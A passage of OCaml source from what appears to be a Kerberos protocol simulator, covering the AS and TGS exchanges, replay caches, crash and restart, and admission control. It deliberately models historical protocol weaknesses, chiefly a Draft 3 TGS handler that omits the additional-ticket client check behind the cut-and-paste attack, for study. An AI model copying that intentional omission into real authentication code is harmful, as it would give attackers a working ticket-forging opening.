   return-path MTU is replaced by a RESPONSE-TOO-BIG error frame, which
   tells the client library to redo the exchange over the stream. *)
let serve_endpoint t =
  let refusal ~mtu:_ =
    Frames.wrap Frames.error
      (Messages.encode_msg t.profile ~tag:Messages.tag_err
         (Messages.err_to_value
            { Messages.e_code = Messages.err_response_too_big;
              e_text = "response exceeds path MTU" }))
  in
  let ep =
    Sim.Transport.serve t.net t.host ~port:t.port ~too_big:refusal
      (fun ~peer raw ~reply ->
        let cx =
          { cx_src = peer.Sim.Transport.p_addr;
            cx_sport = peer.Sim.Transport.p_port;
            cx_own = peer.Sim.Transport.p_local; cx_reply = reply }
        in
        handle_frame t ~cx raw)
  in
  t.endpoint <- Some ep

let fresh_cache ~profile ~config =
  match profile.Profile.ap_auth with
  | Profile.Timestamp { replay_cache = true; _ } ->
      Some (Replay_cache.create ~horizon:(2.0 *. config.skew) ())
  | _ -> None

(* A crash loses everything in memory: the port, every pending challenge
   and established session — and, unless the configuration keeps the
   replay cache on disk, the replay cache too. That last loss is the
   paper's warning: after a fast restart, every authenticator still
   inside the skew window is fresh again. *)
let crash t =
  if t.running then begin
    t.running <- false;
    (match t.endpoint with Some ep -> Sim.Transport.shutdown ep | None -> ());
    t.endpoint <- None;
    t.disk <-
      (match t.cache with
      | Some c when t.config.persist_replay_cache -> Some (Replay_cache.to_bytes c)
      | _ -> None);
    t.cache <- None;
    Hashtbl.reset t.peers;
    Queue.clear t.peer_order;
    Sim.Net.note t.net
      (Printf.sprintf "%s: %s crashed" t.host.Sim.Host.name
         (Principal.to_string t.principal))
  end

let restart t =
  if not t.running then begin
    t.running <- true;
    t.cache <-
      (match t.disk with
      | Some b -> Some (Replay_cache.of_bytes ~now:(now t) b)
      | None -> fresh_cache ~profile:t.profile ~config:t.config);
    t.disk <- None;
    serve_endpoint t;
    Sim.Net.note t.net
      (Printf.sprintf "%s: %s restarted%s" t.host.Sim.Host.name
         (Principal.to_string t.principal)
         (match t.cache with
         | Some c when t.config.persist_replay_cache ->
             Printf.sprintf " (replay cache restored, %d entries)"
               (Replay_cache.size c)
         | _ -> ""))
  end

let install ?(seed = 0x5345525645L) ?(config = default_config) net host ~profile
    ~principal ~key ~port ~handler () =
  let tel = Sim.Net.telemetry net in
  let m = Telemetry.Collector.metrics tel in
  let fresh base = Telemetry.Metrics.counter m (Telemetry.Metrics.fresh_name m base) in
  let svc = "ap." ^ Principal.to_string principal in
  let t =
    { net; host; profile; principal; key; port; config; rng = Util.Rng.create seed;
      cache = fresh_cache ~profile ~config; disk = None; running = true;
      peers = Hashtbl.create 16; peer_order = Queue.create (); handler;
      established = 0; rejected = []; tel;
      c_established = fresh (svc ^ ".sessions_established");
      c_rejected = fresh (svc ^ ".ap_rejects");
      c_replay_hits = fresh (svc ^ ".replay_hits");
      pending_outcome = None; endpoint = None }
  in
  serve_endpoint t;
  t
