let default_port = 750

let tgs_cache_horizon = 600.0

(* What survives a crash on "disk": the database's checkpoint + WAL image
   and the TGS replay-cache snapshot. Captured at crash time — a KDC
   without durability enabled has no disk and loses everything. *)
type disk = {
  dk_checkpoint : bytes;
  dk_wal : bytes;
  dk_replay : bytes;
}

type recovery_info = {
  wal_applied : int;        (** WAL records replayed on top of the checkpoint *)
  wal_skipped : int;        (** records the checkpoint already covered *)
  wal_discarded_bytes : int;(** torn/corrupt WAL tail truncated by CRC *)
  replay_entries : int;     (** TGS replay-cache entries still live at restart *)
}

(* Admission control: the KDC models itself as a single server with a
   bounded priority queue. Every admitted request costs
   [base_service_time] plus whatever read delay the replica router
   charges; requests past the class's share of [queue_limit] are shed
   with KRB_ERR_BUSY and a retry-after hint instead of queueing into
   uselessness — and never dropped silently. *)
type admission = {
  queue_limit : int;        (* max requests waiting, all classes together *)
  base_service_time : float;(* per-request CPU cost, seed for the EWMA *)
  brownout_at : int;        (* depth where expensive work sheds; <= 0 off *)
  suspect_rate : int;       (* per-source requests/min before demotion *)
  classes : bool;           (* strict-priority classes; false = one FIFO *)
}

let default_admission =
  { queue_limit = 64; base_service_time = 0.001; brownout_at = 48;
    suspect_rate = 600; classes = true }

(* A queued request: the closure runs the traced handler (and sends the
   reply); the deadline, when the client propagated one, lets the drain
   loop shed stale work at the queue head. *)
type pending = {
  pq_deadline : float option;
  pq_attrs : (string * string) list;
  pq_run : unit -> unit;
}

(* Per-source arrival rate in O(1) state: two epoch-bucket counters over
   ~minute buckets; the sliding-window estimate is cur + prev. Bounded
   memory per source no matter how hard a flood hammers us. *)
type rate_cell = {
  mutable rc_epoch : int;
  mutable rc_cur : int;
  mutable rc_prev : int;
}

type t = {
  realm : string;
  profile : Profile.t;
  lifetime : float;
  db : Kdb.t;
  rng : Util.Rng.t;
  routes : (string, string) Hashtbl.t;  (** remote realm -> next-hop realm *)
  mutable tgs_cache : Replay_cache.t;  (** authenticators presented to the TGS *)
  enc_tkt_cname_check : bool;
  verify_transit : bool;
  rate_limit : int option;  (** AS requests per source per minute *)
  rate_table : (Sim.Addr.t, float list ref) Hashtbl.t;  (** recent request times *)
  tel : Telemetry.Collector.t;
  (* Replica-aware read routing. [None] (the default) keeps every lookup
     on [db] with zero cost — the pre-replication behaviour, bit for bit.
     With a router, reads are spread over the primary + replica pool and
     each accumulates queueing delay into [read_delay]; [serve] applies
     the accumulated delay to the reply. *)
  reads : Replication.t option;
  mutable read_delay : float;
  (* Overload-control plane. [None] keeps the pre-admission behaviour:
     every decoded request runs inline, bit for bit as before. *)
  admission : admission option;
  service_base : float;  (* base_service_time when admission is on, else 0 *)
  aq_high : pending Queue.t;  (* TGS holders (renewals) *)
  aq_norm : pending Queue.t;  (* fresh AS_REQ *)
  aq_low : pending Queue.t;   (* attack-suspect sources *)
  mutable aq_busy_until : float;
  mutable aq_draining : bool;
  mutable aq_avg_service : float;  (* EWMA of measured per-request cost *)
  suspect_table : (Sim.Addr.t, rate_cell) Hashtbl.t;
  replay_cap : int option;  (* TGS replay-cache entry bound *)
  (* Crash/restart state, mirroring Apserver. [installed] remembers where
     [install] bound us so [restart] can re-listen. *)
  mutable installed : (Sim.Net.t * Sim.Host.t * int) option;
  mutable endpoint : Sim.Transport.server option;
  mutable running : bool;
  mutable disk : disk option;
  mutable durability_every : int option;  (** checkpoint cadence, if durable *)
  mutable last_recovery : recovery_info option;
  (* The bespoke int fields these replaced live on in the registry; the
     .mli accessors below read the counters back. [fresh_name] keeps two
     KDCs of one realm (replication tests) from merging their counts. *)
  c_as_served : Telemetry.Metrics.counter;
  c_preauth_rejected : Telemetry.Metrics.counter;
  c_rate_limited : Telemetry.Metrics.counter;
  c_replay_hits : Telemetry.Metrics.counter;
  c_recoveries : Telemetry.Metrics.counter;
  c_replay_evicted : Telemetry.Metrics.counter;
  c_ov_arrived : Telemetry.Metrics.counter;
  c_ov_busy : Telemetry.Metrics.counter;
  c_ov_brownout : Telemetry.Metrics.counter;
  c_ov_deadline : Telemetry.Metrics.counter;
  c_ov_processed : Telemetry.Metrics.counter;
}

let create ?(seed = 0x4b4443L) ?(enc_tkt_cname_check = false)
    ?(verify_transit = false) ?rate_limit ?telemetry ?reads ?admission
    ?replay_cap ~realm ~profile ~lifetime db =
  (match reads with
  | Some r when Replication.primary r != db ->
      invalid_arg "Kdc.create: reads router is not over this database"
  | _ -> ());
  (match admission with
  | Some a when a.queue_limit <= 0 || a.base_service_time < 0.0 ->
      invalid_arg "Kdc.create: admission needs a positive queue and service time"
  | _ -> ());
  let tel =
    match telemetry with Some c -> c | None -> Telemetry.Collector.default ()
  in
  let m = Telemetry.Collector.metrics tel in
  let fresh base = Telemetry.Metrics.counter m (Telemetry.Metrics.fresh_name m base) in
  let c_replay_evicted = fresh ("kdc." ^ realm ^ ".replay_cache.evicted") in
  { realm; profile; lifetime; db; rng = Util.Rng.create seed;
    reads; read_delay = 0.0;
    admission;
    service_base =
      (match admission with Some a -> a.base_service_time | None -> 0.0);
    aq_high = Queue.create (); aq_norm = Queue.create ();
    aq_low = Queue.create ();
    aq_busy_until = 0.0; aq_draining = false;
    aq_avg_service =
      (match admission with Some a -> a.base_service_time | None -> 0.0);
    suspect_table = Hashtbl.create 16;
    replay_cap;
    routes = Hashtbl.create 4;
    tgs_cache =
      Replay_cache.create ?cap:replay_cap
        ~on_evict:(fun () -> Telemetry.Metrics.incr c_replay_evicted)
        ~horizon:tgs_cache_horizon ();
    enc_tkt_cname_check; verify_transit; rate_limit;
    rate_table = Hashtbl.create 16; tel;
    installed = None; endpoint = None; running = false; disk = None;
    durability_every = None;
    last_recovery = None;
    c_as_served = fresh ("kdc." ^ realm ^ ".as_requests_served");
    c_preauth_rejected = fresh ("kdc." ^ realm ^ ".preauth_rejections");
    c_rate_limited = fresh ("kdc." ^ realm ^ ".rate_limited_requests");
    c_replay_hits = fresh ("kdc." ^ realm ^ ".replay_hits");
    c_recoveries = fresh ("kdc." ^ realm ^ ".recoveries");
    c_replay_evicted;
    c_ov_arrived = fresh ("kdc." ^ realm ^ ".admission.arrived");
    c_ov_busy = fresh ("kdc." ^ realm ^ ".admission.busy_rejections");
    c_ov_brownout = fresh ("kdc." ^ realm ^ ".admission.brownout_sheds");
    c_ov_deadline = fresh ("kdc." ^ realm ^ ".admission.deadline_sheds");
    c_ov_processed = fresh ("kdc." ^ realm ^ ".admission.processed") }

let enable_durability ?(checkpoint_every = 0) t =
  Kdb.enable_durability ~checkpoint_every t.db;
  t.durability_every <- Some checkpoint_every

let realm t = t.realm
let database t = t.db
let add_realm_route t ~remote ~next_hop = Hashtbl.replace t.routes remote next_hop
let as_requests_served t = Telemetry.Metrics.value t.c_as_served
let preauth_rejections t = Telemetry.Metrics.value t.c_preauth_rejected
let rate_limited_requests t = Telemetry.Metrics.value t.c_rate_limited
let busy_rejections t = Telemetry.Metrics.value t.c_ov_busy
let brownout_sheds t = Telemetry.Metrics.value t.c_ov_brownout
let deadline_sheds t = Telemetry.Metrics.value t.c_ov_deadline
let admission_arrived t = Telemetry.Metrics.value t.c_ov_arrived
let admission_processed t = Telemetry.Metrics.value t.c_ov_processed
let replay_evictions t = Telemetry.Metrics.value t.c_replay_evicted

let admission_queue_depth t =
  Queue.length t.aq_high + Queue.length t.aq_norm + Queue.length t.aq_low

(* Sliding one-minute window per source address. *)
let rate_limit_exceeded t ~now src =
  match t.rate_limit with
  | None -> false
  | Some limit ->
      let slot =
        match Hashtbl.find_opt t.rate_table src with
        | Some l -> l
        | None ->
            let l = ref [] in
            Hashtbl.replace t.rate_table src l;
            l
      in
      slot := List.filter (fun ts -> now -. ts < 60.0) !slot;
      if List.length !slot >= limit then begin
        Telemetry.Metrics.incr t.c_rate_limited;
        true
      end
      else begin
        slot := now :: !slot;
        false
      end

let tgs_principal t = Principal.tgs ~realm:t.realm

(* Route one database read. Without a router this is [Kdb.lookup] on the
   primary, free. With one, the read goes to the least-loaded eligible
   serving unit and its queueing + service delay accumulates into
   [read_delay]; successive reads within one exchange queue behind each
   other (hence [now + read_delay]). [fresh] marks password-change-
   sensitive lookups — the AS client key — which must not be served from
   a replica still behind on shipped writes. *)
let db_read ?(fresh = false) t ~now principal =
  match t.reads with
  | None -> Kdb.lookup t.db principal
  | Some router ->
      let entry, delay =
        Replication.read router ~now:(now +. t.read_delay) ~fresh principal
      in
      t.read_delay <- t.read_delay +. delay;
      entry

let err code text = Messages.err_to_value { Messages.e_code = code; e_text = text }

let skew = 300.0

(* ------------------------------------------------------------------ *)
(* AS exchange                                                         *)
(* ------------------------------------------------------------------ *)

let check_preauth t ~client_key (q : Messages.as_req) =
  if not t.profile.Profile.preauth then Ok ()
  else
    match
      List.find_map
        (function Messages.Pa_preauth b -> Some b | _ -> None)
        q.q_padata
    with
    | Some blob -> (
        match
          Messages.open_msg t.profile ~key:client_key ~tag:Messages.tag_preauth blob
        with
        | Error _ -> Error "preauth does not decrypt"
        | Ok v -> (
            match Wire.Encoding.expect_tag t.profile.Profile.encoding Messages.tag_preauth v with
            | exception Wire.Codec.Decode_error _ -> Error "preauth malformed"
            | inner ->
                let nonce = Wire.Encoding.get_int (Wire.Encoding.nth inner 0) in
                if nonce = q.q_nonce then Ok () else Error "preauth nonce mismatch"))
    | None -> Error "preauthentication required"

(* The {R}Kc wrapping of the handheld scheme. *)
let handheld_wrap ~client_key r =
  let k = Crypto.Des.schedule_cached client_key in
  Crypto.Des.fix_parity (Crypto.Des.encrypt_block k r)

(* The KDC's half of the exponential exchange: its public value and the
   DES key distilled from the shared secret. *)
let dh_respond t (q : Messages.as_req) =
  match
    List.find_map (function Messages.Pa_dh b -> Some b | _ -> None) q.q_padata
  with
  | None -> Error "dh login requires an exponential"
  | Some client_pub ->
      let grp = Crypto.Dh.group ~bits:t.profile.Profile.dh_group_bits in
      let kp = Crypto.Dh.generate t.rng grp in
      let shared = Crypto.Dh.shared_secret grp kp (Crypto.Bignum.of_bytes_be client_pub) in
      let kdh = Crypto.Dh.secret_to_key grp shared in
      let pub_bytes =
        Crypto.Bignum.to_bytes_be ~size:((Crypto.Bignum.num_bits grp.p + 7) / 8) kp.public
      in
      Ok (kdh, pub_bytes)

let wrap_key t ~client_key (q : Messages.as_req) =
  (* Returns (wrapping key, challenge field, dh field) per login method. *)
  match t.profile.Profile.login with
  | Profile.Password -> Ok (client_key, None, None)
  | Profile.Handheld_challenge ->
      let r = Util.Rng.bytes t.rng 8 in
      Ok (handheld_wrap ~client_key r, Some r, None)
  | Profile.Dh_protected ->
      Result.map
        (fun (kdh, pub) ->
          (Crypto.Prf.tag_key ~tag:"dh-login" (Util.Bytesutil.xor client_key kdh),
           None, Some pub))
        (dh_respond t q)
  | Profile.Handheld_dh ->
      let r = Util.Rng.bytes t.rng 8 in
      Result.map
        (fun (kdh, pub) ->
          ( Crypto.Prf.tag_key ~tag:"dh-login"
              (Util.Bytesutil.xor (handheld_wrap ~client_key r) kdh),
            Some r, Some pub ))
        (dh_respond t q)

let handle_as t net host (q : Messages.as_req) ~src_addr =
  let arrival = Sim.Net.local_time net host in
  if rate_limit_exceeded t ~now:arrival src_addr then
    err Messages.err_policy "request rate limit exceeded"
  else
  (* The client key seals the reply a password change just re-derived:
     a stale replica would issue tickets under the old key, so this read
     carries the freshness floor. *)
  match db_read ~fresh:true t ~now:arrival q.q_client with
  | None -> err Messages.err_principal_unknown (Principal.to_string q.q_client)
  | Some { key = client_key; _ } -> (
      match check_preauth t ~client_key q with
      | Error reason ->
          Telemetry.Metrics.incr t.c_preauth_rejected;
          err Messages.err_preauth_required reason
      | Ok () -> (
          match db_read t ~now:arrival q.q_server with
          | None -> err Messages.err_principal_unknown (Principal.to_string q.q_server)
          | Some { key = server_key; _ } -> (
              match wrap_key t ~client_key q with
              | Error reason -> err Messages.err_preauth_failed reason
              | Ok (wrap, challenge, dh_pub) ->
                  Telemetry.Metrics.incr t.c_as_served;
                  let now = Sim.Net.local_time net host in
                  let session_key = Crypto.Des.random_key t.rng in
                  let ticket =
                    { Messages.server = q.q_server; client = q.q_client;
                      addr =
                        (if t.profile.Profile.addr_in_ticket then Some q.q_addr else None);
                      issued_at = now; lifetime = t.lifetime; session_key;
                      forwarded = false; dup_skey = false; transited = [] }
                  in
                  if Telemetry.Collector.wants_events t.tel then
                    Telemetry.Collector.event t.tel ~component:"kdc"
                      ~kind:"ticket.issued"
                      [ ("client", Principal.to_string q.q_client);
                        ("server", Principal.to_string q.q_server);
                        ("lifetime", Printf.sprintf "%g" t.lifetime);
                        ( "addr",
                          match ticket.Messages.addr with
                          | Some _ -> "bound"
                          | None -> "none" ) ];
                  let sealed_ticket =
                    Messages.seal_msg t.profile t.rng ~key:server_key
                      ~tag:Messages.tag_ticket (Messages.ticket_to_value ticket)
                  in
                  (* Recommendation (c), second half: only the hardened
                     profile protects the ticket inside the sealed body; V4
                     and the drafts ship it in the clear. *)
                  let inside = t.profile.Profile.ticket_inside_sealed_rep in
                  let body =
                    { Messages.b_session_key = session_key; b_nonce = q.q_nonce;
                      b_server = q.q_server; b_issued_at = now; b_lifetime = t.lifetime;
                      b_ticket = (if inside then sealed_ticket else Bytes.empty) }
                  in
                  let sealed =
                    Messages.seal_msg t.profile t.rng ~key:wrap
                      ~tag:Messages.tag_as_rep_body
                      (Messages.rep_body_to_value ~tag:Messages.tag_as_rep_body body)
                  in
                  Messages.as_rep_to_value
                    { Messages.p_challenge = challenge; p_dh_public = dh_pub;
                      p_ticket = (if inside then None else Some sealed_ticket);
                      p_sealed = sealed })))

(* ------------------------------------------------------------------ *)
(* TGS exchange                                                        *)
(* ------------------------------------------------------------------ *)

(* The presented ticket-granting ticket may be sealed under our own TGS key
   or under a cross-realm key another realm shares with us. The key that
   opens it tells us which neighboring realm vouched for it — information
   the ticket's own transited field cannot be trusted to carry. *)
let open_tgt t ~now (blob : bytes) =
  let candidates =
    (match db_read t ~now (tgs_principal t) with
    | Some { Kdb.key; kind = Kdb.Service } -> [ (key, None) ]
    | _ -> [])
    (* krbtgt.<us>@<neighbor>: the neighbor is the key's realm. The
       cross-realm set is memoized in the database — this runs per TGS
       request and must not scan a realm-sized principal table. *)
    @ List.map
        (fun (p, key) -> (key, Some p.Principal.realm))
        (Kdb.cross_realm_keys t.db)
  in
  let rec try_keys = function
    | [] -> Error "ticket does not decrypt under any TGS key"
    | (key, source_realm) :: rest -> (
        match Messages.open_msg t.profile ~key ~tag:Messages.tag_ticket blob with
        | Ok v -> (
            match Messages.ticket_of_value v with
            | ticket -> Ok (ticket, source_realm)
            | exception Wire.Codec.Decode_error e -> Error e)
        | Error _ -> try_keys rest)
  in
  try_keys candidates

(* Additional tickets (ENC-TKT-IN-SKEY / REUSE-SKEY) may name any service;
   the KDC holds every key in the realm and can open them all. *)
let open_any_ticket t (blob : bytes) =
  let keys =
    List.filter_map
      (fun p -> Option.map (fun e -> e.Kdb.key) (Kdb.lookup t.db p))
      (Kdb.principals t.db)
  in
  let rec try_keys = function
    | [] -> Error "additional ticket does not decrypt under any realm key"
    | key :: rest -> (
        match Messages.open_msg t.profile ~key ~tag:Messages.tag_ticket blob with
        | Ok v -> (
            match Messages.ticket_of_value v with
            | ticket -> Ok ticket
            | exception Wire.Codec.Decode_error _ -> try_keys rest)
        | Error _ -> try_keys rest)
  in
  try_keys keys

let validate_tgs_authenticator t ~now ~src_addr ~(ticket : Messages.ticket)
    (req : Messages.tgs_req) =
  let open Messages in
  match
    open_msg t.profile ~key:ticket.session_key ~tag:tag_authenticator
      req.t_ap.r_authenticator
  with
  | Error e -> Error (err_bad_integrity, "authenticator: " ^ e)
  | Ok v -> (
      match authenticator_of_value v with
      | exception Wire.Codec.Decode_error e -> Error (err_bad_integrity, e)
      | auth ->
          if not (Principal.equal auth.a_client ticket.client) then
            Error (err_bad_integrity, "authenticator/ticket client mismatch")
          else if
            (* The paper's challenge/response option extends to the TGS: the
               request's nonce (echoed, sealed, in the reply) plus the
               request checksum make the exchange self-authenticating — a
               replayed TGS request merely re-issues a ticket sealed to the
               original TGT holder. Only timestamp profiles check clocks. *)
            (match t.profile.Profile.ap_auth with
            | Profile.Timestamp _ -> Float.abs (auth.a_timestamp -. now) > skew
            | Profile.Challenge_response -> false)
          then Error (err_skew, "authenticator outside clock skew")
          else if
            (match t.profile.Profile.ap_auth with
            | Profile.Timestamp { replay_cache = true; _ } ->
                Replay_cache.check_and_insert t.tgs_cache ~now req.t_ap.r_authenticator
                = Replay_cache.Replayed
            | _ -> false)
          then Error (err_replay, "authenticator replayed")
          else if
            (match ticket.addr with
            | Some a -> not (Sim.Addr.equal a src_addr)
            | None -> false)
          then Error (err_badaddr, "ticket bound to another address")
          else if ticket.issued_at +. ticket.lifetime < now then
            Error (err_ticket_expired, "ticket expired")
          else begin
            (* Draft 3: the cleartext request fields are covered only by a
               checksum sealed in the authenticator. *)
            match t.profile.Profile.encoding with
            | Wire.Encoding.V4_adhoc -> Ok auth
            | Wire.Encoding.Der_typed -> (
                match auth.a_req_cksum with
                | None -> Error (err_bad_integrity, "request checksum missing")
                | Some cksum ->
                    let data = tgs_req_cleartext_fields req in
                    if
                      Crypto.Checksum.verify t.profile.Profile.checksum
                        ~key:ticket.session_key data ~expect:cksum
                    then Ok auth
                    else Error (err_bad_integrity, "request checksum mismatch"))
          end)

let handle_tgs t net host (req : Messages.tgs_req) ~src_addr =
  let open Messages in
  let now = Sim.Net.local_time net host in
  match open_tgt t ~now req.t_ap.r_ticket with
  | Error e -> err err_bad_integrity e
  | Ok (tgt, source_realm) -> (
      (* With transit verification on, the realm whose key vouched for this
         TGT is appended by us — a lying intermediate cannot erase itself. *)
      let tgt =
        match source_realm with
        | Some r when t.verify_transit && not (List.mem r tgt.Messages.transited) ->
            { tgt with Messages.transited = tgt.Messages.transited @ [ r ] }
        | _ -> tgt
      in
      match validate_tgs_authenticator t ~now ~src_addr ~ticket:tgt req with
      | Error (code, text) -> err code text
      | Ok _auth -> (
          let opts = req.t_options in
          if opts.enc_tkt_in_skey && not t.profile.Profile.allow_enc_tkt_in_skey then
            err err_option_forbidden "ENC-TKT-IN-SKEY not allowed"
          else if opts.reuse_skey && not t.profile.Profile.allow_reuse_skey then
            err err_option_forbidden "REUSE-SKEY not allowed"
          else if opts.forward && not t.profile.Profile.allow_forwarding then
            err err_option_forbidden "forwarding not allowed"
          else
            (* Open the additional ticket if an option needs it. Note,
               faithfully to Draft 3: no check that its client names the
               requested server — the omission behind the cut-and-paste
               attack. *)
            let additional =
              if opts.enc_tkt_in_skey || opts.reuse_skey then
                match req.t_additional_ticket with
                | None -> Error "option requires an additional ticket"
                | Some blob -> Result.map (fun tkt -> Some tkt) (open_any_ticket t blob)
              else Ok None
            in
            match additional with
            | Error e -> err err_bad_integrity e
            | Ok (Some a)
              when opts.enc_tkt_in_skey && t.enc_tkt_cname_check
                   && not (Principal.equal a.client req.t_server) ->
                (* The intended-but-omitted Draft 3 rule. *)
                err err_policy
                  "additional ticket's client does not name the requested server"
            | Ok additional -> (
                (* Cross-realm referral when the target lives elsewhere. *)
                let target_realm = req.t_server.Principal.realm in
                let issue_for ~server_principal ~seal_key ~server_for_client =
                  let session_key =
                    match (opts.reuse_skey, additional) with
                    | true, Some a -> a.session_key
                    | _ -> Crypto.Des.random_key t.rng
                  in
                  let ticket =
                    { server = server_principal; client = tgt.client;
                      addr =
                        (if opts.forward then None
                         else if t.profile.Profile.addr_in_ticket then Some src_addr
                         else None);
                      issued_at = now; lifetime = t.lifetime; session_key;
                      forwarded = (opts.forward || tgt.forwarded);
                      dup_skey = opts.reuse_skey;
                      transited =
                        (if Principal.equal server_principal req.t_server then tgt.transited
                         else tgt.transited @ [ t.realm ]) }
                  in
                  if Telemetry.Collector.wants_events t.tel then
                    Telemetry.Collector.event t.tel ~component:"kdc"
                      ~kind:"ticket.issued"
                      [ ("client", Principal.to_string ticket.client);
                        ("server", Principal.to_string server_principal);
                        ("lifetime", Printf.sprintf "%g" t.lifetime);
                        ( "addr",
                          match ticket.addr with Some _ -> "bound" | None -> "none"
                        ) ];
                  let sealed_ticket =
                    seal_msg t.profile t.rng ~key:seal_key ~tag:tag_ticket
                      (ticket_to_value ticket)
                  in
                  let inside = t.profile.Profile.ticket_inside_sealed_rep in
                  let body =
                    { b_session_key = session_key; b_nonce = req.t_nonce;
                      b_server = server_for_client; b_issued_at = now;
                      b_lifetime = t.lifetime;
                      b_ticket = (if inside then sealed_ticket else Bytes.empty) }
                  in
                  let sealed =
                    seal_msg t.profile t.rng ~key:tgt.session_key ~tag:tag_rep_body
                      (rep_body_to_value ~tag:tag_rep_body body)
                  in
                  as_rep_to_value
                    { p_challenge = None; p_dh_public = None;
                      p_ticket = (if inside then None else Some sealed_ticket);
                      p_sealed = sealed }
                in
                if target_realm <> t.realm then begin
                  (* Refer the client to the next hop. *)
                  let next =
                    match Hashtbl.find_opt t.routes target_realm with
                    | Some hop -> Some hop
                    | None -> None
                  in
                  match next with
                  | None -> err err_transit ("no route to realm " ^ target_realm)
                  | Some hop -> (
                      let xrealm = Principal.cross_realm_tgs ~local:t.realm ~remote:hop in
                      match Kdb.lookup t.db xrealm with
                      | None -> err err_transit ("no key for " ^ Principal.to_string xrealm)
                      | Some { key; _ } ->
                          issue_for ~server_principal:(Principal.tgs ~realm:hop)
                            ~seal_key:key
                            ~server_for_client:(Principal.tgs ~realm:hop))
                end
                else
                  match
                    (* ENC-TKT-IN-SKEY: seal the new ticket under the session
                       key of the enclosed ticket instead of the server key. *)
                    match (opts.enc_tkt_in_skey, additional) with
                    | true, Some a -> Ok a.session_key
                    | true, None -> Error "missing additional ticket"
                    | false, _ -> (
                        match db_read t ~now req.t_server with
                        | None -> Error (Principal.to_string req.t_server ^ " unknown")
                        | Some { key; _ } -> Ok key)
                  with
                  | Error e -> err err_principal_unknown e
                  | Ok seal_key ->
                      issue_for ~server_principal:req.t_server ~seal_key
                        ~server_for_client:req.t_server)))

(* ------------------------------------------------------------------ *)
(* Service loop                                                        *)
(* ------------------------------------------------------------------ *)

(* The reply is an error exactly when it parses as one; map its code to the
   shared outcome vocabulary, otherwise the exchange succeeded. *)
let outcome_of_reply v =
  match Messages.err_of_value v with
  | e -> Ap_check.outcome_of_code ~code:e.Messages.e_code ~text:e.Messages.e_text
  | exception Wire.Codec.Decode_error _ -> "ok"

(* ------------------------------------------------------------------ *)
(* Admission control                                                   *)
(* ------------------------------------------------------------------ *)

(* Was this source's recent request rate past the suspect threshold?
   Counted on every arrival while admission is on; a suspect source is
   not refused outright — it is demoted to the lowest priority class, so
   a flood queues behind legitimate work instead of ahead of it. *)
let note_arrival t ~now src =
  match t.admission with
  | None -> false
  | Some a ->
      let cell =
        match Hashtbl.find_opt t.suspect_table src with
        | Some c -> c
        | None ->
            let c = { rc_epoch = min_int; rc_cur = 0; rc_prev = 0 } in
            Hashtbl.replace t.suspect_table src c;
            c
      in
      let epoch = int_of_float (now /. 60.0) in
      if epoch <> cell.rc_epoch then begin
        cell.rc_prev <- (if epoch = cell.rc_epoch + 1 then cell.rc_cur else 0);
        cell.rc_cur <- 0;
        cell.rc_epoch <- epoch
      end;
      cell.rc_cur <- cell.rc_cur + 1;
      cell.rc_cur + cell.rc_prev > a.suspect_rate

(* Strict priority: TGS holders (and anything else in the high class)
   drain before fresh AS logins, which drain before suspect sources. *)
let aq_pop t =
  if not (Queue.is_empty t.aq_high) then Some (Queue.pop t.aq_high)
  else if not (Queue.is_empty t.aq_norm) then Some (Queue.pop t.aq_norm)
  else if not (Queue.is_empty t.aq_low) then Some (Queue.pop t.aq_low)
  else None

(* How long the shed client should stay away: the measured time to drain
   what is queued ahead of it, clamped to something a client will
   actually wait. Deterministic — EWMA state and queue depth only. *)
let retry_hint t ~depth =
  Float.min 30.0 (Float.max 0.01 (float_of_int (depth + 1) *. t.aq_avg_service))

(* The virtual single server: pop the highest-priority request, shed it
   for free if its propagated deadline has already passed (the caller
   stopped waiting — processing it would burn service time on a reply
   nobody reads), otherwise run it, charge the measured cost, and come
   back when the service completes. *)
let rec aq_drain t net =
  if not t.running then t.aq_draining <- false
  else begin
    let eng = Sim.Net.engine net in
    let now = Sim.Engine.now eng in
    if now < t.aq_busy_until then ()  (* the completion event re-drains *)
    else
      match aq_pop t with
      | None -> t.aq_draining <- false
      | Some p -> (
          match p.pq_deadline with
          | Some d when now > d ->
              Telemetry.Metrics.incr t.c_ov_deadline;
              if Telemetry.Collector.wants_events t.tel then
                Telemetry.Collector.event t.tel ~component:"kdc"
                  ~kind:"overload.deadline_shed" p.pq_attrs;
              aq_drain t net
          | _ ->
              p.pq_run ();
              let cost = t.service_base +. t.read_delay in
              t.aq_avg_service <-
                (0.8 *. t.aq_avg_service) +. (0.2 *. cost);
              Telemetry.Metrics.incr t.c_ov_processed;
              if cost > 0.0 then begin
                t.aq_busy_until <- now +. cost;
                Sim.Engine.schedule_after eng cost (fun () -> aq_drain t net)
              end
              else aq_drain t net)
  end

let serve t net host port =
  let tel = t.tel in
  let encode v = Wire.Encoding.encode t.profile.Profile.encoding v in
  (* Both endpoints (datagram and framed stream) feed this handler; a
     datagram reply that cannot fit the return path is replaced by the
     RESPONSE-TOO-BIG refusal, telling the client to redo over TCP. *)
  let endpoint =
    Sim.Transport.serve net host ~port
      ~too_big:(fun ~mtu:_ ->
        encode (err Messages.err_response_too_big "response exceeds path MTU"))
      (fun ~peer payload ~reply:send_raw ->
      let reply v = send_raw (encode v) in
      let src_addr = peer.Sim.Transport.p_addr in
      let src = Sim.Addr.to_string src_addr in
      (* One span per exchange, nested under the request's packet span; the
         reply is transmitted inside the span's context so the reply packet
         nests under it in turn. *)
      let traced name ?(attrs = []) handler =
        let span =
          Telemetry.Collector.span_begin tel ~component:"kdc" name
            ~attrs:(("realm", t.realm) :: ("src", src) :: attrs)
        in
        t.read_delay <- 0.0;
        let outcome =
          Telemetry.Collector.with_context tel span (fun () ->
              let v = handler () in
              let outcome = outcome_of_reply v in
              (* Replica-routed reads accumulated queueing delay: hold the
                 reply until the serving units would actually have finished,
                 so overload surfaces as client-visible latency. Under
                 admission control the request's own service time is added
                 — the reply leaves when the virtual server finishes it.
                 The no-router, no-admission path replies inline, exactly
                 as before. *)
              let delay = t.read_delay +. t.service_base in
              if delay > 0.0 then
                Sim.Engine.schedule_after (Sim.Net.engine net) delay
                  (fun () -> reply v)
              else reply v;
              outcome)
        in
        if name = "kdc.as_req" then
          Telemetry.Opsview.record_as_req (Telemetry.Collector.ops tel) ~src
            ~time:(Sim.Net.local_time net host) ~outcome;
        (* The detection-plane hook: one event per exchange with the fields
           the anomaly rules key on. Guarded so the million-user fast path
           skips the attribute list when nothing is listening. *)
        if Telemetry.Collector.wants_events tel then
          Telemetry.Collector.event tel ~component:"kdc"
            ~kind:(if name = "kdc.as_req" then "auth.as_req" else "auth.tgs_req")
